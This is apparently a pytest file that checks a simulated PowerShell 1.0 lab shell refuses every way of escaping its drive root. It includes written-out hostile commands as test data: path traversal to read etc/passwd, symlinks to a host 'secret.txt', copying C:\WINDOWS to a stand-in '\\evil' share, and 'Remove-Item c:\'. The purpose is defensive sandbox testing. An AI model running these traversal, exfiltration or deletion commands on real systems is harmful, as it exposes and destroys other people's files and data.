"""No path of any form reaches outside the lab's drive roots: `..`, absolute host paths, links,
devices, unknown hosts and shares. Each attempt fails with PowerShell's error, changes nothing
(inside or outside the lab) and prints no traceback."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from fs_shell import shell, tree


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A host folder next to the lab that no command may read, write or list."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text("secret")
    return folder


def error(command: str, invoked: str, message: str) -> str:
    """A PowerShell 1.0 error record as an 80-column console prints it (message and source cut at 79)."""
    line = f"{invoked} : {message}"
    wrapped = "".join(line[i:i + 79] + "\n" for i in range(0, len(line), 79))
    marker = len(invoked) + 1
    source = f"+ {command[:marker]} <<<< {command[marker:]}"
    return wrapped + f"At line:1 char:{marker}\n" + "".join(source[i:i + 79] + "\n" for i in range(0, len(source), 79))


DEVICE = 'FileStream will not open Win32 devices such as disk partitions and tape drives. Avoid use of "\\\\.\\" in the path.'
NO_NETWORK_PATH = "The network path was not found."
ATTEMPTS = [
    # (command, invoked name, message)
    ("Get-Content CON", "Get-Content", DEVICE),
    ("Set-Content NUL x", "Set-Content", DEVICE),
    ("Get-Content c:\\aux.txt", "Get-Content", DEVICE),
    ("Set-Content \\\\.\\COM1 x", "Set-Content", DEVICE),
    ("Out-File lpt1", "Out-File", DEVICE),
    ("Get-Content \\\\evil\\c$\\x", "Get-Content", NO_NETWORK_PATH),
    ("Get-Content \\\\8.8.8.8\\c$\\x", "Get-Content", NO_NETWORK_PATH),
    ("Copy-Item c:\\WINDOWS \\\\evil\\c$\\x -Recurse", "Copy-Item", NO_NETWORK_PATH),
    ("Set-Location \\\\evil\\c$", "Set-Location", NO_NETWORK_PATH),
    ("Get-Content \\\\?\\C:\\x", "Get-Content", "The UNC path should be of the form \\\\server\\share."),
    ("Get-Content \\\\cas02\\d$\\x", "Get-Content", "The network name cannot be found."),
    ("Get-Content d:\\x", "Get-Content", "Cannot find drive. A drive with the name 'd' does not exist."),
    ("Set-Content file:///etc/passwd x", "Set-Content",
     "Cannot find drive. A drive with the name 'file' does not exist."),
    ("Get-Content \\\\cas02\\c$\\..\\..\\..\\etc\\passwd", "Get-Content",
     "Cannot find path '\\\\cas02\\c$\\etc\\passwd' because it does not exist."),
    ("Get-Content c:\\..\\..\\..\\..\\etc\\passwd", "Get-Content",
     "Cannot find path 'C:\\etc\\passwd' because it does not exist."),
    ("Get-Content ~\\..\\..\\..\\..\\..\\etc\\passwd", "Get-Content",
     "Cannot find path 'C:\\etc\\passwd' because it does not exist."),
    ("Rename-Item c:\\WINDOWS ..\\..\\x", "Rename-Item", "Cannot rename because the target specified is not a path."),
    ("Rename-Item c:\\WINDOWS 'a|b'", "Rename-Item", "Illegal characters in path."),
    ("Rename-Item c:\\WINDOWS '. .'", "Rename-Item", "Cannot rename because the target specified is not a path."),
    ("Remove-Item c:\\", "Remove-Item", "Access to the path 'C:\\' is denied."),
]


def test_escape_attempts_fail_and_change_nothing(outside: Path) -> None:
    with shell() as sh:
        before = tree(sh.lab.drives_root), tree(outside)
        for command, invoked, message in ATTEMPTS:
            assert sh(command) == error(command, invoked, message), command
        assert sh("cd ..\\..\\..\\..\\..\\..\\..", "(Get-Location).Path", "cd \\\\cas02\\c$\\..\\..",
                  "(Get-Location).Path") == "C:\\\nMicrosoft.PowerShell.Core\\FileSystem::\\\\cas02\\c$\n"
        assert (tree(sh.lab.drives_root), tree(outside)) == before


def test_empty_path_is_refused_by_the_binder() -> None:
    # Binding errors point after the argument that failed (`Get-Content '' <<<< `).
    with shell() as sh:
        assert sh("Get-Content ''") == (
            "Get-Content : Cannot bind argument to parameter 'Path' because it is an empty s\n"
            "tring.\n"
            "At line:1 char:15\n"
            "+ Get-Content '' <<<< \n")


def test_absolute_host_paths_stay_on_the_lab_drive(outside: Path) -> None:
    host = str(outside / "secret.txt")
    windows = "C:" + host.replace("/", "\\")
    forms = [host, host.replace("/", "\\"), "c:\\..\\..\\..\\.." + host.replace("/", "\\"), "FileSystem::" + host,
             f"Microsoft.PowerShell.Core\\FileSystem::{host}"]
    with shell() as sh:
        before = tree(sh.lab.drives_root), tree(outside)
        for form in forms:
            assert sh(f"Get-Content '{form}' -ErrorAction SilentlyContinue", "$Error[0].Exception.Message",
                      "$Error[0].FullyQualifiedErrorId") == (
                f"Cannot find path '{windows}' because it does not exist.\n"
                "PathNotFound,Microsoft.PowerShell.Commands.GetContentCommand\n"), form
        assert sh(f"Get-Content -LiteralPath '{host}' -ErrorAction SilentlyContinue", "$?",
                  f"Set-Content '{host}' x -ErrorAction SilentlyContinue", "$Error[0].Exception.Message",
                  f"Test-Path '{host}'") == (
            f"False\nCould not find a part of the path '{windows}'.\nFalse\n")
        assert (tree(sh.lab.drives_root), tree(outside)) == before


LINK_ATTEMPTS = [
    ("Get-Content c:\\link\\secret.txt", "Get-Content", "C:\\link\\secret.txt"),
    ("Get-Content c:\\flink.txt", "Get-Content", "C:\\flink.txt"),
    ("Get-ChildItem c:\\link", "Get-ChildItem", "C:\\link"),
    ("Set-Location c:\\link", "Set-Location", "C:\\link"),
    ("Set-Content c:\\link\\new.txt x", "Set-Content", "C:\\link\\new.txt"),
    ("Add-Content c:\\flink.txt x", "Add-Content", "C:\\flink.txt"),
    ("Copy-Item c:\\WINDOWS c:\\link\\w -Recurse", "Copy-Item", "C:\\link\\w"),
    ("Copy-Item c:\\flink.txt c:\\x.txt", "Copy-Item", "C:\\flink.txt"),
    ("Move-Item c:\\link c:\\l2", "Move-Item", "C:\\link"),
    ("Remove-Item c:\\link -Recurse", "Remove-Item", "C:\\link"),
    ("Remove-Item c:\\flink.txt", "Remove-Item", "C:\\flink.txt"),
    ("Rename-Item c:\\flink.txt f2.txt", "Rename-Item", "C:\\flink.txt"),
    ("New-Item c:\\link\\d -Type Directory", "New-Item", "C:\\link\\d"),
    ("Out-File c:\\link\\o.txt -InputObject x", "Out-File", "C:\\link\\o.txt"),
]


def test_links_out_of_the_lab_are_refused(outside: Path) -> None:
    with shell() as sh:
        os.symlink(outside, sh.drive() / "link")
        os.symlink(outside / "secret.txt", sh.drive() / "flink.txt")
        before = tree(sh.lab.drives_root), tree(outside)
        for command, invoked, path in LINK_ATTEMPTS:
            assert sh(command) == error(command, invoked, f"Access to the path '{path}' is denied."), command
        assert sh("dir c:\\ -Name", "Test-Path c:\\link\\secret.txt", "Test-Path c:\\flink.txt") == (
            "Documents and Settings\nProgram Files\nWINDOWS\nFalse\nFalse\n")
        assert (tree(sh.lab.drives_root), tree(outside)) == before
